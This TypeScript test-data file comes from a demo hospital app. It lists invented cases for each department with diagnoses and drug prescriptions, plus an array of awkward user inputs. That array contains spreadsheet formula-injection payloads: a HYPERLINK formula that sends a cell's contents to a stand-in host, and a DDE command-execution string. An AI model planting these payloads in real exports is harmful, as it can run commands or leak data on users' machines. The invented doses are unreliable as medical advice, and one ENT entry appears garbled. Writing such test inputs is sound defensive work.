/** Why people come to a department, and what they leave with. */
export interface Case {
  readonly reason: string
  readonly diagnosis: string
  readonly prescription: string
}

const one = (reason: string, diagnosis: string, prescription: string): Case => ({
  reason,
  diagnosis,
  prescription,
})

/** The departments of the demo hospital with their everyday cases, all of them invented. */
export const departmentCases: Readonly<Record<string, readonly Case[]>> = {
  'General Medicine': [
    one('Fever for three days', 'Viral fever', 'Paracetamol 500 mg, 1-1-1 for 3 days; fluids, rest'),
    one('बुख़ार और खाँसी', 'Acute bronchitis', 'Syrup ambroxol 5 ml, 1-1-1\nसात दिन बाद दिखाएँ'),
    one('Yearly check-up', 'Healthy', 'None'),
    one('Tiredness, weight loss', 'Iron deficiency anaemia', 'Ferrous sulphate 200 mg, 1-0-1 for 8 weeks'),
  ],
  Cardiology: [
    one('Chest pain on climbing stairs', 'Stable angina', 'Aspirin 75 mg 0-0-1, atorvastatin 20 mg 0-0-1'),
    one('High blood pressure, review', 'Hypertension, grade 1', 'Amlodipine 5 mg, 1-0-0'),
    one('Palpitations', 'Sinus tachycardia', 'Less coffee; ECG in 2 weeks'),
    one('நெஞ்சு வலி', 'Musculoskeletal chest pain', 'Ibuprofen 400 mg after food, 5 days'),
  ],
  Orthopaedics: [
    one(
      'Knee pain, left',
      'Osteoarthritis of the knee',
      'Paracetamol 650 mg SOS; physiotherapy, "quadriceps" set',
    ),
    one('Fall from a bicycle', 'Fracture of the distal radius', 'Cast for 6 weeks; X-ray on day 10'),
    one('Back pain', 'Lumbar strain', 'Diclofenac gel; no lifting > 5 kg'),
    one('Frozen shoulder, follow-up', 'Adhesive capsulitis', 'Exercises, hot pack, review in a month'),
  ],
  Paediatrics: [
    one('Vaccination, 9 months', 'Healthy infant', 'MR-1 given, next at 16 months'),
    one(
      'Loose stools since morning',
      'Acute gastroenteritis',
      'ORS after each stool, zinc 20 mg for 14 days',
    ),
    one('Cough at night', 'Childhood asthma', 'Salbutamol inhaler with spacer, 2 puffs SOS'),
    one('জ্বর ও সর্দি', 'Upper respiratory infection', 'Paracetamol syrup 5 ml, 1-1-1'),
  ],
  'Obstetrics and Gynaecology': [
    one('Antenatal visit, 20 weeks', 'Normal pregnancy', 'Iron, calcium; anomaly scan this week'),
    one('Irregular periods', 'Polycystic ovary syndrome', 'Metformin 500 mg, 1-0-1; walk 30 min a day'),
    one('Antenatal visit, 32 weeks', 'Gestational diabetes', 'Diet chart; glucose diary, 4 × a day'),
    one('Abdominal pain', 'Ovarian cyst, simple', 'Ultrasound again in 6 weeks'),
  ],
  Dermatology: [
    one('Itching, both hands', 'Contact dermatitis', 'Mometasone cream 0.1 %, twice a day, 10 days'),
    one('Acne', 'Acne vulgaris', 'Benzoyl peroxide 2.5 % at night'),
    one('Ring-shaped patch', 'Tinea corporis', 'Terbinafine cream, 4 weeks'),
    one('طفح جلدي', 'Urticaria', 'Cetirizine 10 mg, 0-0-1'),
  ],
  Ophthalmology: [
    one('Blurred vision', 'Myopia', 'Glasses: R -1.25, L -1.50'),
    one('Red eye', 'Allergic conjunctivitis', 'Olopatadine drops, 1-0-1, 2 weeks'),
    one('Cataract review', 'Senile cataract, right eye', 'Surgery planned; stop nothing'),
    one('Diabetic eye check', 'No retinopathy', 'Again in 12 months'),
  ],
  ENT: [
    one('Ear pain', 'Otitis media', 'Amoxicillin 500 mg, 1-1-1 for 7 days'),
    one('Blocked nose', 'Allergic rhinitis', 'Fluticasone spray, 1-0-1'),
    one('Hoarse voice for 2 weeks', 'Laryngitis', 'Voice rest, steam; scope if > 4 weeks'),
    one('ConsumerRow test', 'Presbycusis', 'ConsumerRow aid trial'),
  ],
  Neurology: [
    one('Headache, one-sided', 'Migraine without aura', 'Naproxen 500 mg SOS; headache diary'),
    one('Numb fingers', 'Carpal tunnel syndrome', 'Wrist splint at night'),
    one('Seizure, follow-up', 'Epilepsy, controlled', 'Levetiracetam 500 mg, 1-0-1'),
    one('頭暈', 'Benign positional vertigo', 'Epley manoeuvre done'),
  ],
  'Diabetes and Endocrinology': [
    one('Sugar review', 'Type 2 diabetes, HbA1c 7.8 %', 'Metformin 1 g, 1-0-1; glimepiride 1 mg, 1-0-0'),
    one('Thyroid review', 'Hypothyroidism', 'Levothyroxine 75 µg, empty stomach'),
    one('Foot check', 'Diabetic neuropathy', 'Pregabalin 75 mg, 0-0-1; soft footwear'),
    one('Weight gain', 'Obesity, BMI 31', 'Diet chart, 150 min of walking a week'),
  ],
  Psychiatry: [
    one('Cannot sleep', 'Insomnia', 'Sleep hygiene; review in 2 weeks'),
    one('Low mood', 'Depressive episode, mild', 'Sertraline 50 mg, 1-0-0; counselling'),
    one('Panic at night', 'Panic disorder', 'Breathing exercises; escitalopram 5 mg'),
    one('Follow-up', 'Anxiety, improving', 'Continue the same'),
  ],
  Dentistry: [
    one('Toothache, lower left', 'Dental caries', 'Filling done; no hot food today'),
    one('Cleaning', 'Gingivitis', 'Chlorhexidine rinse, 1-0-1, 7 days'),
    one('Broken tooth', 'Fractured crown, 21', 'Crown in two visits'),
    one('Wisdom tooth', 'Pericoronitis', 'Metronidazole 400 mg, 1-1-1 for 5 days'),
  ],
}

/** What people really type into a box: whatever a spreadsheet, a CSV reader or a log could trip over. */
export const awkwardTexts: readonly string[] = [
  '=HYPERLINK("http://example.test/?x="&A1,"click")',
  '+91 98450 12345 (call before visit)',
  '-5 kg in two months',
  "@cmd|' /C calc'!A0",
  'first line\nsecond line\r\nthird line',
  'says "it hurts, here", then laughs',
  ',;|\t',
  'ends in a quote"',
  '😷🤒 since Monday',
  '٣ أيام حمى',
  '＝SUM(1,1)',
  '\r\n=1+1',
  '',
  ' leading and trailing ',
  '\tindented, as it was pasted',
]
